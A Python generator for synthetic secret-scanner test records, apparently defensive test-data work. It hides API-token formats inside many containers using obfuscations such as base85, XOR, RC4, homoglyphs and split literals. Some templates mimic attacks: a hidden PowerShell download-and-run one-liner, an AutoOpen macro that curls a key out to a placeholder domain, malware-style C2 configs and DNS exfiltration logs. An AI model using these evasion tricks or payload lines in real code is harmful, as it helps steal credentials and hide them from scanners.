"""Evasion records: self-identifying tokens hidden by an encoding or splitting trick.
Three bespoke containers per encoding; ⟦E⟧ = encoded span, ⟦K⟧ = key shown in the text."""
import gen_common as G
from gen_encodings import ENC, KEYED

# self-identifying plain tokens (type, generator)
TOKENS = [
    ("github_classic_pat", "@ghp"), ("gitlab_personal_access_token", "glpat-<b64u:20>"),
    ("slack_bot_token", "xoxb-<d:12>-<d:13>-<an:24>"), ("stripe_live_secret_key", "sk_live_51<an:60>"),
    ("sendgrid_api_key", "SG.<b64u:22>.<b64u:43>"), ("huggingface_access_token", "hf_<ul:34>"),
    ("npm_access_token", "@npm"), ("digitalocean_personal_access_token", "dop_v1_<hex:64>"),
    ("shopify_admin_api_access_token", "shpat_<hex:32>"), ("linear_personal_api_key", "lin_api_<an:40>"),
    ("perplexity_api_key", "pplx-<an:48>"), ("groq_api_key", "gsk_<an:52>"), ("dockerhub_personal_access_token", "dckr_pat_<b64u:27>"),
    ("grafana_service_account_token", "@glsa"), ("tailscale_auth_key", "tskey-auth-k<an:9>CNTRL-<an:33>"),
    ("sentry_user_auth_token", "sntryu_<hex:64>"), ("prefect_cloud_api_key", "pnu_<an:36>"),
    ("postman_api_key", "PMAK-<hex:24>-<hex:34>"), ("databricks_personal_access_token", "dapi<hex:32>"),
    ("openrouter_api_key", "sk-or-v1-<hex:64>"), ("replicate_api_token", "r8_<an:37>"),
    ("posthog_personal_api_key", "phx_<an:43>"), ("brevo_api_key", "xkeysib-<hex:64>-<an:16>"),
    ("contentful_management_token", "CFPAT-<b64u:43>"), ("figma_personal_access_token", "figd_<b64u:40>"),
    ("langsmith_api_key", "lsv2_pt_<hex:32>_<hex:10>"), ("pulumi_access_token", "pul-<hex:40>"),
    ("rubygems_api_key", "rubygems_<hex:48>"), ("gitlab_pipeline_trigger_token", "glptt-<hex:40>"),
    ("fly_io_oauth_token", "fo1_<b64u:43>"), ("anthropic_api_key", "sk-ant-api03-<b64u:93>AA"),
    ("xai_api_key", "xai-<an:80>"), ("notion_integration_token", "ntn_<d:11><an:35>"),
]

KEYS = {"columnar_transposition_keyed": ["KESTREL", "MARIGOLD", "ZEPHYR"],
        "single_byte_xor_base64": [0x5A, 0x37, 0x6C],
        "rc4_keyed_hex": ["winter2025", "hexmill", "p@yl0ad"]}

T = {
    "raw_deflate_base64": [
        ("php_gzinflate_eval_webshell", "<?php $c = gzinflate(base64_decode('⟦E⟧')); define('API_TOKEN', $c); ?>\n"),
        ("python_zlib_wbits_minus15", "import base64, zlib\nTOKEN = zlib.decompress(base64.b64decode(\"⟦E⟧\"), -15).decode()\n"),
        ("node_inflateraw_sync_buffer", "const token = zlib.inflateRawSync(Buffer.from('⟦E⟧', 'base64')).toString();\n"),
    ],
    "base32hex_extended": [
        ("python_b32hexdecode_call", "import base64\nkey = base64.b32hexdecode(\"⟦E⟧\").decode()\n"),
        ("config_value_b32hex_comment", "# value is base32hex (RFC 4648 §7)\nservice.credential = ⟦E⟧\n"),
        ("chat_base32hex_paste", "⟦first⟧: decode with base32hex, not normal base32 😉  ⟦E⟧\n"),
    ],
    "base62_bigint": [
        ("python_base62_int_decode", "ALPHA = \"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz\"\nblob = \"⟦E⟧\"\nn = 0\nfor ch in blob:\n    n = n * 62 + ALPHA.index(ch)\ntoken = n.to_bytes((n.bit_length() + 7) // 8, \"big\").decode()\n"),
        ("yaml_opaque_base62_field", "integration:\n  # base62 big-int, decode before use\n  token_b62: ⟦E⟧\n"),
        ("url_shortener_style_slug_note", "note to self: the real key is the slug of https://s.⟦domain⟧/⟦E⟧ (base62 of the bytes)\n"),
    ],
    "base91_henke": [
        ("python_base91_decode_call", "import base91\nTOKEN = base91.decode('⟦E⟧').decode()\n"),
        ("ctf_notes_base91_line", "flag-ish string from the pcap (basE91):\n⟦E⟧\n"),
        ("ini_base91_value", "[upstream]\nencoding = base91\nsecret = ⟦E⟧\n"),
    ],
    "base85_rfc1924": [
        ("python_b85decode_call", "from base64 import b85decode\nKEY = b85decode(\"⟦E⟧\").decode()\n"),
        ("git_binary_patch_style_note", "stashed creds (b85, RFC1924 alphabet): ⟦E⟧\n"),
        ("go_ascii85_rfc1924_comment", "// token encoded with RFC 1924 base85 (see decodeB85)\nconst tokenB85 = `⟦E⟧`\n"),
    ],
    "quoted_printable_forced": [
        ("mime_part_qp_body", "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n⟦E⟧\n"),
        ("python_quopri_decodestring", "import quopri\ntok = quopri.decodestring(b\"\"\"⟦E⟧\"\"\").decode()\n"),
        ("email_source_view_qp", "--boundary42\nContent-Transfer-Encoding: quoted-printable\n\nhere is the key as requested:\n⟦E⟧\n--boundary42--\n"),
    ],
    "mime_encoded_word_base64": [
        ("email_subject_encoded_word", "Subject: ⟦E⟧\nFrom: ⟦first⟧ <⟦email⟧>\nTo: ops@⟦domain⟧\n"),
        ("http_header_rfc2047_value", "X-Deploy-Note: ⟦E⟧\n"),
        ("vcard_note_encoded_word", "BEGIN:VCARD\nVERSION:3.0\nFN:Service Account\nNOTE:⟦E⟧\nEND:VCARD\n"),
    ],
    "yenc_single_part": [
        ("usenet_yenc_article_body", "From: poster@⟦domain⟧\nNewsgroups: alt.binaries.test\nSubject: token.txt (1/1)\n\n⟦E⟧\n"),
        ("nzb_segment_cache_dump", "segment 1 of 1 (cached):\n⟦E⟧\n"),
        ("forum_code_block_yenc", "[code]\n⟦E⟧\n[/code]\nyDecode it, you know what to do\n"),
    ],
    "xxencode": [
        ("shell_xxdecode_heredoc", "xxdecode <<'EOF'\n⟦E⟧\nEOF\ncat token.txt\n"),
        ("bbs_post_xxencoded_attachment", "-- attachment follows (xxencoded) --\n⟦E⟧\n"),
        ("mainframe_transfer_xx_note", "transfer via 7-bit link, xx-encoded:\n⟦E⟧\n"),
    ],
    "js_es6_codepoint_escape": [
        ("js_const_codepoint_escapes", "const k = \"⟦E⟧\";\nfetch(url, { headers: { Authorization: `Bearer ${k}` } });\n"),
        ("json5_config_escaped_string", "{\n  // json5 keeps escapes\n  token: \"⟦E⟧\",\n}\n"),
        ("browser_console_paste_escapes", "> atob; JSON.parse('\"x\"'); const t = \"⟦E⟧\"\n< undefined\n"),
    ],
    "powershell_char_array_join": [
        ("ps1_char_array_token", "$t = ⟦E⟧\nInvoke-RestMethod -Uri $api -Headers @{ Authorization = \"Bearer $t\" }\n"),
        ("ps_obfuscated_oneliner_log", "powershell.exe -nop -w hidden -c \"$k=⟦E⟧;iex (iwr $u -Headers @{a=$k})\"\n"),
        ("intune_remediation_script", "# remediation: set registry token\n$val = ⟦E⟧\nSet-ItemProperty -Path HKLM:\\SOFTWARE\\⟦org⟧ -Name Token -Value $val\n"),
    ],
    "spreadsheet_char_formula": [
        ("xlsx_cell_formula_dump", "Sheet: Config\nB7 (formula): ⟦E⟧\nB8: API endpoint\n"),
        ("google_sheets_formula_copy", "⟦E⟧\n"),
        ("ods_content_xml_formula", "<table:table-cell table:formula=\"of:⟦E⟧\" office:value-type=\"string\"/>\n"),
    ],
    "vba_chrw_concat": [
        ("excel_vba_module_chrw", "Function GetKey() As String\n    GetKey = ⟦E⟧\nEnd Function\n"),
        ("word_macro_autoopen_chrw", "Sub AutoOpen()\n    k = ⟦E⟧\n    Shell \"curl -H \"\"X-Key: \" & k & \"\"\" https://⟦domain⟧\"\nEnd Sub\n"),
        ("access_db_vba_constant_builder", "Private Sub Form_Load()\n    Me.txtToken = ⟦E⟧\nEnd Sub\n"),
    ],
    "chunk_order_reversed": [
        ("chat_reversed_chunks_message", "⟦first⟧: read the pieces right-to-left: ⟦E⟧\n"),
        ("sticky_note_photo_ocr_text", "OCR of whiteboard photo:\n⟦E⟧\n(written backwards in blocks so nobody walking by gets it)\n"),
        ("js_split_reverse_join_source", "const t = \"⟦E⟧\".split(\"|\").reverse().join(\"\");\n"),
    ],
    "columnar_transposition_keyed": [
        ("escape_room_columnar_card", "Transposition card — key word: ⟦K⟧\n⟦E⟧\n"),
        ("python_untranspose_call", "token = untranspose(\"⟦E⟧\", key=\"⟦K⟧\")\n"),
        ("chat_columnar_hint", "⟦first⟧: columnar with ⟦K⟧, you know the drill → ⟦E⟧\n"),
    ],
    "single_byte_xor_base64": [
        ("malware_config_single_xor_b64", "cfg = {\"c2\": \"https://cdn.⟦domain⟧\", \"xor\": ⟦K⟧, \"tok\": \"⟦E⟧\"}\n"),
        ("python_xor_byte_decode", "k = ⟦K⟧\ntok = bytes(b ^ k for b in base64.b64decode(\"⟦E⟧\")).decode()\n"),
        ("csharp_xor_key_loop", "byte key = ⟦K⟧;\nvar raw = Convert.FromBase64String(\"⟦E⟧\");\nfor (int i = 0; i < raw.Length; i++) raw[i] ^= key;\n"),
    ],
    "rc4_keyed_hex": [
        ("malware_config_rc4_blob", "[config]\nrc4_key=⟦K⟧\nblob=⟦E⟧\n"),
        ("python_arc4_decrypt_call", "from arc4 import ARC4\ntoken = ARC4(b\"⟦K⟧\").decrypt(bytes.fromhex(\"⟦E⟧\")).decode()\n"),
        ("cobalt_style_profile_rc4_note", "# stage token, RC4 with key \"⟦K⟧\"\nset token \"⟦E⟧\";\n"),
    ],
    "greek_homoglyph": [
        ("env_value_greek_lookalike", "API_TOKEN=⟦E⟧\n"),
        ("forum_post_greek_letters", "posting it with Greek letters so the bot doesn't eat it: ⟦E⟧\n"),
        ("yaml_secret_greek_homoglyph", "credentials:\n  token: \"⟦E⟧\"\n"),
    ],
    "math_monospace_alphanumerics": [
        ("discord_code_font_trick", "⟦first⟧: `⟦E⟧` (monospace unicode, copy & NFKC it)\n"),
        ("social_bio_monospace_text", "bio: building things 🛠 | key: ⟦E⟧\n"),
        ("markdown_monospace_unicode_line", "> ⟦E⟧\n"),
    ],
    "invisible_separator_interleaved": [
        ("html_attribute_invisible_sep", "<div data-key=\"⟦E⟧\"></div>\n"),
        ("chat_message_invisible_sep", "⟦first⟧: ⟦E⟧\n"),
        ("readme_table_cell_invisible", "| service | token |\n|---|---|\n| api | ⟦E⟧ |\n"),
    ],
    "xml_cdata_split": [
        ("xml_config_cdata_pieces", "<settings>\n  <token>⟦E⟧</token>\n</settings>\n"),
        ("soap_envelope_cdata_split", "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Header><AuthToken>⟦E⟧</AuthToken></soap:Header></soap:Envelope>\n"),
        ("rss_item_cdata_fragments", "<item><title>build</title><description>⟦E⟧</description></item>\n"),
    ],
    "adjacent_literal_concatenation": [
        ("c_header_adjacent_literals", "#define API_TOKEN ⟦E⟧\n"),
        ("python_paren_implicit_concat", "TOKEN = (\n    ⟦E⟧\n)\n"),
        ("go_const_adjacent_style_comment", "/* token split to dodge scanners */\nstatic const char *tok = ⟦E⟧;\n"),
    ],
    "js_reverse_join_array": [
        ("js_module_reverse_join", "export const token = ⟦E⟧;\n"),
        ("bookmarklet_reverse_join", "javascript:(()=>{const t=⟦E⟧;fetch('/api',{headers:{Authorization:'Bearer '+t}})})()\n"),
        ("userscript_reverse_join", "// ==UserScript==\n// @name  helper\n// ==/UserScript==\nconst KEY = ⟦E⟧;\n"),
    ],
    "shell_var_fragments": [
        ("bash_script_var_fragments", "#!/bin/bash\n⟦E⟧\ncurl -H \"Authorization: Bearer $tok\" https://api.⟦domain⟧/v1/me\n"),
        ("dockerfile_run_var_fragments", "RUN ⟦E⟧ && echo \"//registry/:_authToken=$tok\" > ~/.npmrc\n"),
        ("ci_yaml_script_var_fragments", "script:\n  - ⟦E⟧\n  - ./deploy.sh \"$tok\"\n"),
    ],
    "base100_emoji": [
        ("chat_emoji_blob_message", "⟦first⟧: ⟦E⟧\n⟦first2⟧: lol what is that\n⟦first⟧: base💯\n"),
        ("commit_message_emoji_blob", "commit ⟦sha⟧\n\n    chore: ✨ ⟦E⟧\n"),
        ("slack_status_emoji_blob", "status_text: \"⟦E⟧\"\n"),
    ],
    "dna_base4": [
        ("bioinformatics_fasta_record", ">seq_⟦n⟧ synthetic construct\n⟦E⟧\n"),
        ("lab_notebook_sequence_line", "primer set B (do not order!): ⟦E⟧\n"),
        ("python_dna_decode_call", "token = dna_to_bytes(\"⟦E⟧\").decode()\n"),
    ],
    "utf7_forced_base64": [
        ("email_header_utf7_value", "X-Api-Key: ⟦E⟧\nContent-Type: text/plain; charset=utf-7\n"),
        ("imap_mailbox_name_utf7", "a3 CREATE \"⟦E⟧\"\n"),
        ("python_utf7_decode_call", "key = \"⟦E⟧\".encode().decode(\"utf-7\")\n"),
    ],
    "ebcdic_cp037_hex": [
        ("mainframe_hexdump_cp037", "DUMP OF RECORD 0001 (EBCDIC CP037):\n⟦E⟧\n"),
        ("cobol_copybook_hex_literal_note", "      * TOKEN BYTES (CP037): ⟦E⟧\n"),
        ("python_cp037_decode_call", "tok = bytes.fromhex(\"⟦E⟧\").decode(\"cp037\")\n"),
    ],
    "dns_exfil_base32_labels": [
        ("dns_query_log_exfil", "⟦iso⟧ client ⟦ip⟧#53122: query: ⟦E⟧.x1.⟦domain⟧ IN A +E(0)\n"),
        ("zeek_dns_log_line", "⟦unix⟧.118\tC⟦reqid⟧\t⟦ip⟧\t53122\t⟦ip2⟧\t53\tudp\t⟦E⟧.t.⟦domain⟧\tA\tNXDOMAIN\n"),
        ("pihole_query_log_exfil", "Mar  4 02:11:09 dnsmasq[⟦pid⟧]: query[TXT] ⟦E⟧.d.⟦domain⟧ from ⟦ip⟧\n"),
    ],
    "json_fragment_object": [
        ("json_config_fragment_map", "{\"service\": \"billing\", \"token_parts\": ⟦E⟧}\n"),
        ("local_storage_fragment_dump", "localStorage[\"kp\"] = '⟦E⟧'\n"),
        ("api_response_fragment_payload", "HTTP/1.1 200 OK\nContent-Type: application/json\n\n{\"ok\":true,\"k\":⟦E⟧}\n"),
    ],
    "ansi_sgr_interleaved": [
        ("terminal_log_colored_token", "[deploy] using token ⟦E⟧ for registry login\n"),
        ("script_typescript_capture_color", "Script started on ⟦date⟧ ⟦time⟧\n$ ./print-creds --color\n⟦E⟧\n"),
        ("ci_log_ansi_rainbow_token", "##[group]Env\nTOKEN=⟦E⟧\n##[endgroup]\n"),
    ],
    "html_span_fragments": [
        ("html_page_span_split_token", "<p>Your API key: <code>⟦E⟧</code></p>\n"),
        ("email_html_span_fragments", "<td style=\"font-family:monospace\">⟦E⟧</td>\n"),
        ("wiki_html_export_spans", "<div class=\"panel\">Token: ⟦E⟧</div>\n"),
    ],
    "backspace_overstrike": [
        ("terminal_capture_backspaces", "$ cat creds.txt\n⟦E⟧\n"),
        ("man_page_style_overstrike", "TOKEN\n       ⟦E⟧\n"),
        ("serial_console_log_overstrike", "[boot] provisioning key: ⟦E⟧\n"),
    ],
}


def build(seed, start):
    g = G.Gen(seed)
    recs = []
    names = list(ENC)
    assert set(names) == set(T)
    for ei, enc in enumerate(names):
        for ci, (container, tpl) in enumerate(T[enc]):
            key = KEYS[enc][ci] if enc in KEYED else None
            for attempt in range(200):
                typ, gen = TOKENS[(ei * 3 + ci + attempt // 10) % len(TOKENS)]
                d = G.make_value(g, gen)
                plain = d["value"]
                val = ENC[enc](plain, key, g.r)
                if enc == "greek_homoglyph" and sum(c in "ABEHIKMNOPTXYZov" for c in plain) < 3:
                    continue
                if enc == "base85_rfc1924" and "`" in val:
                    continue
                break
            else:
                raise RuntimeError("no plain fits " + enc)
            filler = G.make_filler(g)
            sp = {"value": val, "type": typ, "plain": plain, "encoding": enc}
            if key is not None:
                sp["encoding_key"] = key
            text, spans = G.render(tpl.replace("⟦K⟧", str(key) if key is not None else ""), {"E": {"value": val, "type": typ}}, filler)
            s = spans[0]
            s.update({"plain": plain, "encoding": enc})
            if key is not None:
                s["encoding_key"] = key
            recs.append({"id": None, "type": typ, "container": container, "encoding": enc, "text": text,
                         "secrets": [s], "source": "synthetic:gen_evasions"})
    return recs
